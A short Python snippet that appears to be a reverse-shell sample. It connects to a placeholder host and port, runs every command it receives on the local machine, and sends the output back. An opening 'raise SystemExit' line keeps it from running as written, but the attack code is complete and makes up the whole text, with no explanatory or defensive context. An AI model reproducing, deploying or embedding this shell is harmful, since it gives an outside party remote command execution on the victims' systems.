raise SystemExit
import socket, subprocess
s = socket.socket(); s.connect((HOST, PORT))
while True:
    cmd = s.recv(1024).decode()
    out = subprocess.getoutput(cmd)
    s.sendall(out.encode())
